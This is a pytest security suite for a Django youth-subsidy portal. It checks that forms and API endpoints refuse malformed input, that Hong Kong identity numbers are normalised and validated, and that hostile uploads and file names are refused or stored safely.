"""Bad input, as one suite (issue 8, OWASP ASVS V5 validation and V12 files): every HTML form and
every API write endpoint, as the role that may use it, is sent an empty body, a body over
DATA_UPLOAD_MAX_MEMORY_SIZE, the wrong content type, and in each text field a 100,000-character
string, a NUL, a lone surrogate and bytes that are not UTF-8. Then identity numbers in every
shape people type them, hostile uploads, formula injection in every export, and where identity
numbers are kept and shown.

The forms are the ones the pages really show (found by reading the HTML the role gets, in the
world of tests/security/conftest.py); the API fields are the request fields of the OpenAPI schema.
Every request runs in a savepoint that is rolled back, with the row count of every portal table
taken before and after it: a refused request must have written nothing.
"""

from __future__ import annotations

import datetime as dt
import json
import re
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from django.conf import settings
from django.test import Client

from . import badinput, harness
from .matrix import BUILD, EXPECT

# The role that uses a route: the first of these the matrix lets through (2xx, 3xx or 400).
PREFERENCE = (
    "youth",
    "mentor",
    "operator",
    "reviewer",
    "approver",
    "anon",
    "youth_b",
    "mentor_b",
    "operator_b",
    "admin",
)
ROLE = {  # pages every role may POST to, whose real user is a particular one
    "<lang>/accounts/login/": "anon",
    "<lang>/accounts/signup/": "anon",
    "<lang>/accounts/password/reset/": "anon",
    "<lang>/accounts/password/reset/<uidb64>/<token>/": "anon",
    "<lang>/mentors/profile/": "mentor",
    "<lang>/mentors/my-mentees/": "mentor",
    "<lang>/subsidies/batches/<int:pk>/mark-paid/": "approver",
    "<lang>/events/sessions/<int:session_id>/": "youth_b",  # youth A holds a place: no form for them
}
# What a form needs besides what the page fills in, for its plain submission to be accepted.
VALID = {
    "<lang>/subsidies/apply/<slug:code>/": {"start_date": "2026-01-05", "end_date": "2026-03-31", "period": "2026"},
    "<lang>/mentors/staff/activities/new/": {"title": "Career talk", "date": "2026-12-01"},
    # the form's first mentee has a mentor already: staff allow a second one
    "<lang>/mentors/staff/match/": {"second_mentor": "on"},
    "<lang>/mentors/staff/relationships/<int:pk>/end/": {"reason": "Moved away."},
    "<lang>/mentors/my-mentor/": {"since": "2026-01-05"},
    "<lang>/policies/check/": {"age": "25"},
    "<lang>/places/<slug:slug>/closures/": {"starts_on": "2026-01-05", "ends_on": "2026-01-06", "reason": "Renovation"},
    "<lang>/places/<slug:slug>/report/": {"message": "New hours."},
    "<lang>/accounts/password/reset/": {"email": "someone@test.gba-youth.example"},
    "<lang>/subsidies/review/bulk/": lambda o: {"claims": str(o["claim_submitted"].pk), "reason": "Missing papers."},
    # the claim page offers return and reject on a claim waiting for review: they need a reason
    "<lang>/subsidies/claims/<int:pk>/<slug:action>/": {"reason": "Missing papers."},
    # the employer's new vacancy: its title, positions and dates (the selects start on a choice)
    "<lang>/opportunities/employer/vacancies/new/": {
        "title_zh_hant": "實習生",
        "positions": "1",
        "opens_on": "2026-01-05",
        "closes_on": "2026-02-05",
    },
    "<lang>/bookings/<slug:slug>/": lambda o: {
        "start": str(dt.date.today() + dt.timedelta(days=2)),
        "end": str(dt.date.today() + dt.timedelta(days=3)),
    },
}
# Forms whose plain submission is refused whatever we fill in (credentials we do not know, a
# file the form needs); their fields are attacked all the same.
REFUSED_BASE = {
    "<lang>/accounts/login/",
    "<lang>/accounts/signup/",
    "<lang>/accounts/password/change/",
    "<lang>/subsidies/claims/<int:pk>/documents/",
    "<lang>/bases/<int:pk>/edit/",
    # the check-in form of the world's booking, years ahead: check-in opens 30 minutes before
    "<lang>/bookings/mine/<int:pk>/<str:action>/",
    "<lang>/events/check-in/<int:session_id>/",  # check-in opens on the session's day only
}
# Text fields without a length limit: a 100,000-character value would be accepted; any field must
# refuse it (notes, reasons, biographies: at most portal.forms.FREE_TEXT_MAX_LENGTH characters). A
# field added without a limit fails the suite until it gets one (or is named here, with a reason).
UNBOUNDED_PAGE_FIELDS: set[tuple[str, str]] = set()
UNBOUNDED_API_FIELDS: set[tuple[str, str]] = set()
# Pages that take a POST but read no form from it (a button, or a page that ignores the body).
NO_FORM = {
    "<lang>/",
    "<lang>/help/",
    "<lang>/help/faq/",
    "<lang>/accounts/signup/confirm/<str:token>/",  # a link that is not ours: the "no longer works" page
    "<lang>/help/accessibility/",
    "<lang>/status/",
    "<lang>/dashboard/",
    "<lang>/events/",
    "<lang>/events/<slug:slug>/",
    "<lang>/events/mine/",
    "<lang>/accounts/notifications/",
    "<lang>/subsidies/claims/<int:pk>/submitted/",  # a claim without a reference: back to the claim
    "<lang>/accounts/password/reset/<uidb64>/<token>/",
    "<lang>/bases/",
    "<lang>/bases/<int:pk>/",
    "<lang>/bases/<int:pk>/history/",
    "<lang>/bases/review/",
    "<lang>/bases/statistics/",
    "<lang>/bases/statistics/download.<str:fmt>",
    "<lang>/mentors/",
    "<lang>/mentors/<int:pk>/",
    "<lang>/mentors/my-mentees/",
    "<lang>/mentors/services/<int:pk>/evidence/",
    "<lang>/mentors/services/<int:pk>/insurance/",
    "<lang>/mentors/staff/",
    "<lang>/places/",
    "<lang>/places/<slug:slug>/",
    "<lang>/places/staff/",
    "<lang>/policies/",
    "<lang>/policies/<slug:slug>/",
    "<lang>/subsidies/",
    "<lang>/subsidies/batches/",
    "<lang>/subsidies/batches/<int:pk>/",
    "<lang>/subsidies/batches/<int:pk>/export.<str:fmt>",
    "<lang>/subsidies/claims/",
    "<lang>/subsidies/claims/<int:pk>/",
    "<lang>/subsidies/documents/<int:pk>/",
    "<lang>/subsidies/documents/<int:pk>/remove/",  # a button: the document is taken back or the page says why not
    "<lang>/subsidies/exports/<int:pk>/",
    "<lang>/subsidies/exports/<int:pk>/download/",
    "<lang>/subsidies/review/",
    "<lang>/subsidies/statistics/",
    "<lang>/opportunities/",
    "<lang>/opportunities/my-applications/",
    "<lang>/opportunities/vacancies/<int:pk>/",
    "<lang>/opportunities/vacancies/<int:pk>/applicants/",
    "<lang>/opportunities/employer/vacancies/",  # its buttons post to the vacancy's actions
    "<lang>/opportunities/applications/<int:pk>/cv/",
    "<lang>/opportunities/applications/<int:pk>/claim/",  # a button, shown once placed
    "<lang>/opportunities/saved-searches/",  # the list's filters again, as hidden fields once filtered
    "<lang>/opportunities/figures/",
    "<lang>/opportunities/figures/download.<str:fmt>",
    "healthz",
    "<lang>/bookings/",
    "<lang>/bookings/mine/",
    "<lang>/bookings/mine/<int:pk>/",  # its forms post to the booking's actions
    "<lang>/bookings/mine/<int:pk>/booking.ics",
    "<lang>/bookings/requests/",
    "<lang>/bookings/usage/",  # a filter sent with GET
}
OVERSIZE = settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1
# Parameters the code reads by hand, sent to every route whether or not its form or schema
# declares them (the probe of issue 15 found 500s the declared fields alone never reached).
READ_NAMES = badinput.names_the_code_reads()


def user_role(route: str, method: str = "POST") -> str | None:
    if route in ROLE:
        return ROLE[route]
    spec = getattr(EXPECT[route], method)
    if not spec:
        return None
    classes = harness.parse(spec)
    allowed = next((r for r in PREFERENCE if classes[r] in ("2xx", "3xx")), None)
    return allowed or next((r for r in PREFERENCE if classes[r] == "400"), None)


def url_of(route: str, world) -> str:
    build = BUILD.get(route)
    return harness.build_url(route, build.kwargs(world.objects) if build and build.kwargs else {})


@pytest.fixture(scope="module")
def discovered(world, clients, django_db_blocker) -> dict[str, list[badinput.Form]]:
    """route -> the forms that post to it, read from every page its user can open."""
    found: dict[str, dict] = {}
    with django_db_blocker.unblock():
        for role in {user_role(r) for r in PAGE_ROUTES}:
            pages = [
                url_of(r, world)
                for r in EXPECT
                if not harness.is_api(r) and harness.parse(EXPECT[r].GET)[role] == "2xx"
            ]
            pages.append(f"/en/subsidies/claims/{world.objects['claim_draft'].pk}/")  # the upload form
            for url in pages:
                response = clients[role].get(url)
                if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
                    continue
                for form in badinput.forms_on(response.content.decode(), url):
                    target = badinput.route_of(form.action)
                    if target and user_role(target) == role:
                        found.setdefault(target, {}).setdefault((form.action, tuple(form.fields)), form)
    return {route: list(forms.values()) for route, forms in found.items()}


# --- every page that takes a POST -----------------------------------------------------------------

PAGE_ROUTES = sorted(r for r in EXPECT if not harness.is_api(r) and EXPECT[r].POST and user_role(r))


def _field_key(route: str, name: str) -> tuple[str, str]:
    """A field name with the object's pk put back as a placeholder (review forms are prefixed)."""
    return route, re.sub(r"^(correction|flag)-\d+-", lambda m: f"{m.group(1)}-{{{m.group(1)}}}-", name)


@pytest.mark.parametrize("route", PAGE_ROUTES)
def test_page_forms_refuse_bad_input(route, world, clients, discovered, db):
    role, url = user_role(route), url_of(route, world)
    client = clients[role]
    forms = discovered.get(route, [])
    assert bool(forms) != (route in NO_FORM), f"{route}: forms found {forms!r}; NO_FORM says otherwise"
    wrong: list[str] = []

    def check(label, sent, must_refuse=False):
        if sent.status >= 500:
            wrong.append(f"{label}: server error {sent.status}")
        elif badinput.refused(sent) and sent.written:
            wrong.append(f"{label}: refused ({sent.status}) but wrote {sent.written}")
        elif must_refuse and not badinput.refused(sent):
            wrong.append(f"{label}: accepted ({sent.status}, wrote {sent.written})")
        return sent

    check("empty body", badinput.send(client, "post", url))
    big = b"x=" + b"a" * OVERSIZE
    sent = check(
        "oversized body", badinput.send(client, "post", url, data=big, content_type="application/x-www-form-urlencoded")
    )
    if any(set(f.kinds.values()) - {"hidden", "submit"} for f in forms) and sent.status not in (400, 413):
        wrong.append(f"oversized body: {sent.status}, not 400 or 413")  # a page that reads a form refuses it
    for form in forms:
        extra = VALID.get(route, {})
        base = form.data(**(extra(world.objects) if callable(extra) else extra))
        plain = check(f"{form.action} plain", badinput.send(client, "post", form.action, data=base))
        if route not in REFUSED_BASE and badinput.refused(plain):
            wrong.append(
                f"{form.action}: the plain submission is refused ({plain.status}), so the attacks prove nothing"
            )
        check(
            f"{form.action} as JSON",
            badinput.send(client, "post", form.action, data=json.dumps(base), content_type="application/json"),
        )
        for name in form.text_fields():
            label = f"{form.action} {name}"
            check(
                f"{label} NUL",
                badinput.send(client, "post", form.action, data={**base, name: badinput.NUL}),
                must_refuse=True,
            )
            huge = check(
                f"{label} 100,000 characters",
                badinput.send(client, "post", form.action, data={**base, name: badinput.HUGE}),
            )
            unbounded = _field_key(route, name) in UNBOUNDED_PAGE_FIELDS
            if route not in REFUSED_BASE and badinput.refused(huge) == unbounded:
                wrong.append(
                    f"{label}: 100,000 characters {'refused' if unbounded else 'accepted'}; "
                    "UNBOUNDED_PAGE_FIELDS says otherwise"
                )
            for kind, raw in badinput.RAW_PAYLOADS.items():
                others = {k: v for k, v in base.items() if k != name}
                check(
                    f"{label} {kind}",
                    badinput.send(
                        client,
                        "post",
                        form.action,
                        data=badinput.urlencoded(others, {name: raw}),
                        content_type="application/x-www-form-urlencoded",
                    ),
                )
        for name in sorted(n for n in form.fields if n != "csrfmiddlewaretoken"):  # text or not
            for kind, value in badinput.ODD_VALUES.items():
                check(
                    f"{form.action} {name} {kind}",
                    badinput.send(client, "post", form.action, data={**base, name: value}),
                )
        undeclared = sorted(READ_NAMES - set(form.fields))
        for kind, value in badinput.UNDECLARED_VALUES.items():
            check(
                f"{form.action} undeclared parameters {kind}",
                badinput.send(client, "post", form.action, data={**base, **dict.fromkeys(undeclared, value)}),
            )
        check(
            f"{form.action} JSON nested 1,000 deep",
            badinput.send(client, "post", form.action, data=badinput.deep_json(), content_type="application/json"),
        )
    assert not wrong, "\n".join(wrong)


# --- every API write ------------------------------------------------------------------------------

API_WRITES = sorted(
    (r, m)
    for r in EXPECT
    if harness.is_api(r)
    for m in ("POST", "PUT", "PATCH")
    if getattr(EXPECT[r], m) and user_role(r, m)
)
# Endpoints that act on the URL alone and never read a body.
BODYLESS = {
    ("api/v1/subsidies/payment-batches/<int:pk>/mark-paid/", "POST"),
    ("api/v1/events/sessions/<int:session_id>/allocate/", "POST"),
    ("api/v1/events/registrations/<int:registration_id>/<slug:action>/", "POST"),
}
# Endpoints with parsers of their own (DRF's token view): NUL and surrogates still get a 400 from
# the serializer's CharField, in DRF's words.
OWN_PARSERS = {("api/v1/auth/token/", "POST")}


def _request_fields() -> dict[tuple[str, str], set[str]]:
    """(schema path, method) -> the writable text fields of the request body."""
    from drf_spectacular.generators import SchemaGenerator

    schema = SchemaGenerator().get_schema(request=None, public=True)
    components = schema["components"]["schemas"]
    out: dict[tuple[str, str], set[str]] = {}
    for path, operations in schema["paths"].items():
        for method, operation in operations.items():
            for body in operation.get("requestBody", {}).get("content", {}).values():
                ref = body["schema"].get("$ref", "").rsplit("/", 1)[-1]
                properties = components.get(ref, {}).get("properties", {})
                out.setdefault((path, method.upper()), set()).update(
                    name
                    for name, p in properties.items()
                    if p.get("type") == "string" and not p.get("readOnly") and p.get("format") != "binary"
                )
    return out


def _request_properties() -> dict[tuple[str, str], set[str]]:
    """(schema path, method) -> every writable field of the request body, text or not."""
    from drf_spectacular.generators import SchemaGenerator

    schema = SchemaGenerator().get_schema(request=None, public=True)
    components = schema["components"]["schemas"]
    out: dict[tuple[str, str], set[str]] = {}
    for path, operations in schema["paths"].items():
        for method, operation in operations.items():
            for body in operation.get("requestBody", {}).get("content", {}).values():
                ref = body["schema"].get("$ref", "").rsplit("/", 1)[-1]
                properties = components.get(ref, {}).get("properties", {})
                out.setdefault((path, method.upper()), set()).update(
                    name for name, p in properties.items() if not p.get("readOnly") and p.get("format") != "binary"
                )
    return out


@pytest.fixture(scope="module")
def request_fields():
    return _request_fields()


@pytest.fixture(scope="module")
def request_properties():
    return _request_properties()


def test_the_schema_names_text_fields(request_fields):
    assert {"company_name", "identity_number", "period"} <= request_fields[("/api/v1/subsidies/claims/", "POST")]


@pytest.mark.parametrize(("route", "method"), API_WRITES)
def test_api_refuses_bad_input(route, method, world, clients, request_fields, request_properties, db):
    role, url = user_role(route, method), url_of(route, world)
    client, verb = clients[role], method.lower()
    build = BUILD.get(route)
    base = build.data(world.objects) if build and build.data else {}
    multipart = bool(build and build.form)
    schema_path = "/" + re.sub(r"<(?:\w+:)?(\w+)>", r"{\1}", route)
    fields = sorted(request_fields.get((schema_path, method), set()) | set(base))
    reads_body = (route, method) not in BODYLESS
    wrong: list[str] = []

    def check(label, sent, expect=None):
        if sent.status >= 500:
            wrong.append(f"{label}: server error {sent.status}")
        elif sent.status >= 400 and sent.written:
            wrong.append(f"{label}: refused ({sent.status}) but wrote {sent.written}")
        elif expect and reads_body and sent.status not in expect:
            wrong.append(f"{label}: {sent.status}, expected one of {expect}")
        elif sent.status in (400, 413) and "json" not in sent.response.get("Content-Type", ""):
            wrong.append(f"{label}: {sent.status} answered as {sent.response.get('Content-Type')}, not JSON")
        return sent

    def as_json(data, label, expect=None):
        return check(
            label, badinput.send(client, verb, url, data=json.dumps(data), content_type="application/json"), expect
        )

    check("empty JSON body", badinput.send(client, verb, url, data=b"", content_type="application/json"))
    check(
        "malformed JSON", badinput.send(client, verb, url, data=b'{"a": ', content_type="application/json"), {400, 415}
    )
    check("text/plain", badinput.send(client, verb, url, data=b"hello", content_type="text/plain"), {415})
    check(
        "not UTF-8",
        badinput.send(client, verb, url, data=b'{"x": "\xff\xfe"}', content_type="application/json"),
        {400, 415},
    )
    check(
        "oversized JSON",
        badinput.send(
            client,
            verb,
            url,
            data=json.dumps({**({} if multipart else base), "pad": "a" * OVERSIZE}),
            content_type="application/json",
        ),
        {413, 415},
    )
    if not multipart:  # the upload endpoint's fields are attacked in the upload tests below
        check(
            "form-encoded",
            badinput.send(
                client, verb, url, data=badinput.urlencoded(base), content_type="application/x-www-form-urlencoded"
            ),
        )
    plain = None if multipart else as_json(base, "plain")
    for name in [] if multipart else fields:
        as_json({**base, name: badinput.NUL}, f"{name} NUL", {400})
        as_json({**base, name: "a\ud800b"}, f"{name} lone surrogate", {400})
        huge = as_json({**base, name: badinput.HUGE}, f"{name} 100,000 characters")
        unbounded = (route, name) in UNBOUNDED_API_FIELDS
        kept = huge.status < 300 and badinput.HUGE in huge.text  # stored and echoed, not ignored
        if plain.status < 300 and kept != unbounded:
            wrong.append(f"{name}: 100,000 characters answered {huge.status}; UNBOUNDED_API_FIELDS says otherwise")
        check(
            f"{name} NUL form-encoded",
            badinput.send(
                client,
                verb,
                url,
                data=badinput.urlencoded({**base, name: badinput.NUL}),
                content_type="application/x-www-form-urlencoded",
            ),
            {400},
        )
    every = sorted(request_properties.get((schema_path, method), set()) | set(base))
    for name in [] if multipart else every:  # every field, text or not: ids, amounts, dates
        for kind, value in badinput.ODD_VALUES.items():
            as_json({**base, name: value}, f"{name} {kind}")
    for kind, value in badinput.UNDECLARED_VALUES.items():  # in the query string, all at once
        undeclared = dict.fromkeys(sorted(READ_NAMES - set(every)), value)
        check(
            f"undeclared parameters {kind}",
            badinput.send(
                client,
                verb,
                url + "?" + badinput.urlencoded(undeclared).decode(),
                data=json.dumps({} if multipart else base),
                content_type="application/json",
            ),
        )
    check(
        "JSON nested 1,000 deep",
        badinput.send(client, verb, url, data=badinput.deep_json(), content_type="application/json"),
        {400, 413, 415},
    )
    assert not wrong, "\n".join(wrong)


# --- the language of a refusal --------------------------------------------------------------------

LANGS = ("zh-hant", "zh-hans", "en")


def _in(lang: str, message) -> str:
    from django.utils import translation

    with translation.override(lang):
        return translation.gettext(message) if isinstance(message, str) else str(message)


def test_refusals_speak_the_request_language(world, clients, db):
    """One refusal of each kind, in each of the three languages: the API's NUL (portal.api), its
    413, a form's NUL (Django's own message) and the page answering an oversized form."""
    from django.core.validators import ProhibitNullCharactersValidator

    from portal.api import UNSAFE_TEXT, RequestTooLarge

    page_nul = ProhibitNullCharactersValidator.message
    assert len({_in(lang, UNSAFE_TEXT) for lang in LANGS}) == 3, "the message is not translated"
    youth = clients["youth"]
    for lang in LANGS:
        sent = badinput.send(
            youth,
            "post",
            f"/api/v1/subsidies/claims/?lang={lang}",
            content_type="application/json",
            data=json.dumps({"scheme": "luohu-living", "company_name": badinput.NUL}),
        )
        assert sent.status == 400 and not sent.written
        assert sent.response.json()["company_name"] == [_in(lang, UNSAFE_TEXT)], lang
        sent = badinput.send(
            youth,
            "post",
            f"/api/v1/subsidies/claims/?lang={lang}",
            content_type="application/json",
            data=json.dumps({"pad": "a" * OVERSIZE}),
        )
        assert sent.status == 413 and sent.response.json()["detail"] == _in(lang, RequestTooLarge.default_detail)
        sent = badinput.send(youth, "post", f"/{lang}/mentors/apply/", data={"display_name": badinput.NUL})
        assert sent.status == 200 and badinput.refused(sent) and not sent.written
        assert _in(lang, page_nul) in sent.text, lang
        sent = badinput.send(
            youth,
            "post",
            f"/{lang}/mentors/apply/",
            data=b"x=" + b"a" * OVERSIZE,
            content_type="application/x-www-form-urlencoded",
        )
        assert sent.status == 413 and not sent.written  # portal.middleware.RequestBodyLimitMiddleware
        assert _in(lang, "The file is too large") in sent.text, lang


# --- identity numbers -----------------------------------------------------------------------------


def _hkid(letters: str, digits: str) -> str:
    from subsidies import rules

    return f"{letters}{digits}{rules.hkid_check_digit(letters, digits)}"


def _digits_with_check_a() -> str:
    from subsidies import rules

    return next(f"{n:06d}" for n in range(1000, 999999) if rules.hkid_check_digit("C", f"{n:06d}") == "A")


# (type, typed) -> stored
ACCEPTED = [
    ("hkid", "A123456(3)", "A1234563"),
    ("hkid", "a123456(3)", "A1234563"),
    ("hkid", "A123456 (3)", "A1234563"),
    ("hkid", " A 123456 3 ", "A1234563"),
    ("hkid", "A123456-3", "A1234563"),
    ("hkid", "Ａ１２３４５６（３）", "A1234563"),  # full-width, as a Chinese input method types it
    ("hkid", "ａ１２３４５６(3)", "A1234563"),  # full-width lower case, mixed widths
    ("hkid", "\u3000A123456(3)\u3000", "A1234563"),  # ideographic spaces
    ("home_return_permit", "h12345678", "H12345678"),
    ("home_return_permit", "M1234567801", "M1234567801"),  # a Macau resident's permit
    ("home_return_permit", "Ｍ１２３４５６７８", "M12345678"),
    ("passport", " k1234 5678 ", "K12345678"),
]
REFUSED = [  # (type, typed, the message's msgid)
    ("hkid", "A123456(4)", "The check digit of this Hong Kong identity card number is wrong."),
    ("hkid", "\u0410123456(3)", "Enter a Hong Kong identity card number like A123456(3)."),  # Cyrillic А
    ("hkid", "A\u0661\u0662\u0663\u0664\u0665\u0666(3)", "Enter a Hong Kong identity card number like A123456(3)."),
    ("hkid", "1234567(8)", "Enter a Hong Kong identity card number like A123456(3)."),  # Macau BIR
    ("hkid", "1/234567/8", "Enter a Hong Kong identity card number like A123456(3)."),  # Macau BIR
    ("hkid", "A123456(3)\x00", "Enter a Hong Kong identity card number like A123456(3)."),
    ("hkid", "A1234567(3)", "Enter a Hong Kong identity card number like A123456(3)."),
    ("hkid", "  ", "Enter the identity number."),
    ("home_return_permit", "1234567(8)", "Enter a Home Return Permit number: H or M followed by 8 or 10 digits."),
    ("home_return_permit", "H1234567", "Enter a Home Return Permit number: H or M followed by 8 or 10 digits."),
    ("passport", "K1", "Enter a passport number of 6 to 12 letters and digits."),
    ("", "A123456(3)", "Choose an identity document."),
]


def test_identity_table_is_right():
    """The examples above are real numbers: two letters and an "A" check digit included."""
    from subsidies import rules

    assert _hkid("A", "123456") == "A1234563"
    for number in (_hkid("AB", "987654"), _hkid("C", _digits_with_check_a())):
        assert rules.identity_error("hkid", number) is None and number == rules.canonical_identity("hkid", number)


@pytest.mark.parametrize(("kind", "typed", "stored"), ACCEPTED)
def test_identity_numbers_accepted_in_one_stored_form(kind, typed, stored):
    from subsidies import rules

    assert rules.identity_error(kind, typed) is None
    assert rules.canonical_identity(kind, typed) == stored


@pytest.mark.parametrize(("kind", "typed", "msgid"), REFUSED)
def test_identity_numbers_refused_with_a_message(kind, typed, msgid):
    from django.utils import translation

    from subsidies import rules

    for lang in LANGS:
        with translation.override(lang):
            assert rules.identity_error(kind, typed) == _in(lang, msgid)
    assert _in("zh-hant", msgid) != msgid and _in("zh-hans", msgid) != msgid, "not translated"


def _new_youth(email: str):
    from accounts.models import User
    from accounts.roles import YOUTH, role_group

    user = User.objects.create_user(email=email, password="x-42-horse")
    user.groups.add(role_group(YOUTH))
    client = Client()
    client.force_login(user)
    return user, client


CLAIM = {
    "scheme": "futian-internship",
    "education_level": "master",
    "start_date": "2026-01-05",
    "end_date": "2026-03-31",
    "period": "2026",
}


@pytest.mark.parametrize("typed", ["Ａ１２３４５６（３）", "a123456 (3)"])
def test_identity_typed_any_way_is_stored_once_canonical(typed, db, world):
    """Through the API and through the page, the number lands in the profile in one form."""
    api_user, api = _new_youth("id.api@test.gba-youth.example")
    response = api.post(
        "/api/v1/subsidies/claims/",
        content_type="application/json",
        data={**CLAIM, "identity_type": "hkid", "identity_number": typed},
    )
    assert response.status_code == 201, response.content
    api_user.refresh_from_db()
    assert api_user.subsidy_profile.identity_number == "A1234563"

    page_user, page = _new_youth("id.page@test.gba-youth.example")
    response = page.post(
        "/en/subsidies/apply/futian-internship/", data={**CLAIM, "identity_type": "hkid", "identity_number": typed}
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    page_user.refresh_from_db()
    assert page_user.subsidy_profile.identity_number == "A1234563"


def test_identity_refused_in_each_language_and_nothing_written(db, world):
    _user, client = _new_youth("id.refused@test.gba-youth.example")
    msgid = "The check digit of this Hong Kong identity card number is wrong."
    for lang in LANGS:
        sent = badinput.send(
            client,
            "post",
            f"/api/v1/subsidies/claims/?lang={lang}",
            content_type="application/json",
            data=json.dumps({**CLAIM, "identity_type": "hkid", "identity_number": "Ａ１２３４５６（４）"}),
        )
        assert sent.status == 400 and not sent.written, sent.text
        assert sent.response.json()["identity_number"] == [_in(lang, msgid)]
        sent = badinput.send(
            client,
            "post",
            f"/{lang}/subsidies/apply/futian-internship/",
            data={**CLAIM, "identity_type": "hkid", "identity_number": "A123456(4)"},
        )
        assert sent.status == 400 and not sent.written
        assert _in(lang, msgid) in sent.text, lang


# --- uploads --------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Upload:
    role: str
    url: Callable[[dict], str]
    fields: Callable[[dict], dict]
    file_field: str
    accepted: int  # the status of a successful upload
    stored: Callable[[], object]  # the newest row holding an upload of this kind
    good: bytes = badinput.PDF


def _newest(model_path: str):
    def get():
        from django.apps import apps

        return apps.get_model(model_path).objects.order_by("-pk").first()

    return get


UPLOADS = {
    "claim document (API)": Upload(
        "youth",
        lambda o: f"/api/v1/subsidies/claims/{o['claim_draft'].pk}/documents/",
        lambda o: {"kind": o["claim_draft"].scheme.required_documents.order_by("pk").first().code},
        "file",
        201,
        _newest("subsidies.ClaimDocument"),
    ),
    "claim document (page)": Upload(
        "youth",
        lambda o: f"/en/subsidies/claims/{o['claim_draft'].pk}/documents/",
        lambda o: {"kind": o["claim_draft"].scheme.required_documents.order_by("pk").first().code},
        "file",
        302,
        _newest("subsidies.ClaimDocument"),
    ),
    "mentor's evidence (API)": Upload(
        "mentor",
        lambda o: "/api/v1/mentorship/services/",
        lambda o: {
            "relationship": o["rel_a"].pk,
            "kind": "career_guidance",
            "date": str(o["rel_a"].start_date),
            "topic": "CV",
        },
        "evidence",
        201,
        _newest("mentorship.Service"),
    ),
    "mentor's evidence (page)": Upload(
        "mentor",
        lambda o: f"/en/mentors/relationships/{o['rel_a'].pk}/",
        lambda o: {"kind": "career_guidance", "date": str(o["rel_a"].start_date), "topic": "CV"},
        "evidence",
        302,
        _newest("mentorship.Service"),
    ),
    "base photo (page)": Upload(
        "operator",
        lambda o: f"/en/bases/{o['base_a'].pk}/edit/",
        lambda o: {"action": "photo", "caption": "Desk"},
        "image",
        302,
        _newest("incubators.BasePhoto"),
        good=b"",
    ),
}


def _send_upload(target: Upload, world, clients, filename: str, content: bytes, inspect=None, lang: str = "en"):
    body, content_type = badinput.multipart(
        target.fields(world.objects), {target.file_field: (filename, content, "application/octet-stream")}
    )
    url = target.url(world.objects).replace("/en/", f"/{lang}/", 1)
    if url.startswith("/api/"):
        url += f"?lang={lang}"
    return badinput.send(clients[target.role], "post", url, data=body, content_type=content_type, inspect=inspect)


def _good(target: Upload) -> bytes:
    return target.good or badinput._png()


@pytest.mark.parametrize("target", sorted(UPLOADS))
def test_a_good_upload_is_accepted(target, world, clients, db):
    """The attacks below are refused for what the file is, not for a mistake in the request."""
    name = "photo.png" if UPLOADS[target].file_field == "image" else "offer.pdf"
    sent = _send_upload(UPLOADS[target], world, clients, name, _good(UPLOADS[target]))
    assert sent.status == UPLOADS[target].accepted, sent.text[:3000]
    assert sent.written


@pytest.mark.parametrize("target", sorted(UPLOADS))
@pytest.mark.parametrize("attack", sorted(badinput.REFUSED_FILES))
def test_hostile_files_are_refused(target, attack, world, clients, db):
    filename, content = badinput.refused_file(attack)
    sent = _send_upload(UPLOADS[target], world, clients, filename, content)
    assert badinput.refused(sent), (sent.status, sent.written)
    assert not sent.written


@pytest.mark.parametrize("target", sorted(UPLOADS))
@pytest.mark.parametrize("attack", sorted(badinput.HOSTILE_NAMES))
def test_hostile_file_names_never_reach_the_disk(target, attack, world, clients, db, settings):
    """Accepted under a clean name, or refused: never a path outside the upload folder, never a
    control or direction-changing character in a stored or shown name."""
    import unicodedata
    from pathlib import Path

    up = UPLOADS[target]
    seen = {}

    def inspect(response):
        row = up.stored()
        field = getattr(row, up.file_field if up.file_field != "file" else "file")
        seen["name"] = field.name
        seen["path"] = Path(field.path).resolve()
        seen["root"] = Path(field.storage.location).resolve()
        seen["shown"] = str(getattr(row, "original_name", "") or "")

    sent = _send_upload(up, world, clients, badinput.HOSTILE_NAMES[attack], _good(up), inspect=inspect)
    if badinput.refused(sent):
        assert not sent.written
        return
    assert sent.status == up.accepted, sent.text[:2000]
    assert seen["root"] in seen["path"].parents, seen
    for text in (seen["name"], seen["shown"]):
        assert ".." not in text and "\\" not in text, seen
        assert not [c for c in text if unicodedata.category(c) in ("Cc", "Cf")], seen


def test_upload_refusal_speaks_the_request_language(world, clients, db):
    from django.utils.translation import gettext_lazy

    message = gettext_lazy("Upload a PDF, JPEG or PNG file.")
    for lang in LANGS:
        for target in ("claim document (API)", "claim document (page)"):
            sent = _send_upload(UPLOADS[target], world, clients, "x.pdf", badinput.SCRIPT, lang=lang)
            assert sent.status == 400 and not sent.written
            assert _in(lang, message) in (sent.text if "page" in target else json.loads(sent.text)["file"][0]), lang


def _download(client, path: str) -> dict:
    response = client.get(path)
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return {
        "status": response.status_code,
        "type": response.get("Content-Type", ""),
        "body": body,
        "disposition": response.get("Content-Disposition", ""),
        "nosniff": response.get("X-Content-Type-Options"),
    }


SAFE_TYPES = {"application/pdf", "image/jpeg", "image/png"}


@pytest.mark.parametrize("name", ["page.html", "drawing.svg", "invoice.exe", "x.pdf"])
def test_uploaded_files_are_served_as_what_they_are(name, world, clients, db):
    """A PDF that is also an HTML page (accepted: it starts %PDF), under any name: downloaded as
    a PDF, as an attachment unless the staff preview asks for inline, never sniffed."""
    got = {}

    def claim_document(response):
        from subsidies.models import ClaimDocument

        pk = ClaimDocument.objects.order_by("-pk").first().pk
        got["claim"] = _download(clients["youth"], f"/en/subsidies/documents/{pk}/")
        got["claim inline"] = _download(clients["youth"], f"/en/subsidies/documents/{pk}/?inline=1")

    def evidence(response):
        from mentorship.models import Service

        pk = Service.objects.order_by("-pk").first().pk
        got["evidence"] = _download(clients["mentor"], f"/en/mentors/services/{pk}/evidence/")

    sent = _send_upload(
        UPLOADS["claim document (page)"], world, clients, name, badinput.POLYGLOT, inspect=claim_document
    )
    assert sent.status == 302
    sent = _send_upload(UPLOADS["mentor's evidence (page)"], world, clients, name, badinput.POLYGLOT, inspect=evidence)
    assert sent.status == 302
    for label, d in got.items():
        assert d["status"] == 200 and d["body"] == badinput.POLYGLOT, label
        assert d["type"] in SAFE_TYPES and d["type"] == "application/pdf", (label, d["type"])
        assert d["nosniff"] == "nosniff", label
        expected = "inline" if label == "claim inline" else "attachment"
        assert d["disposition"].startswith(expected), (label, d["disposition"])
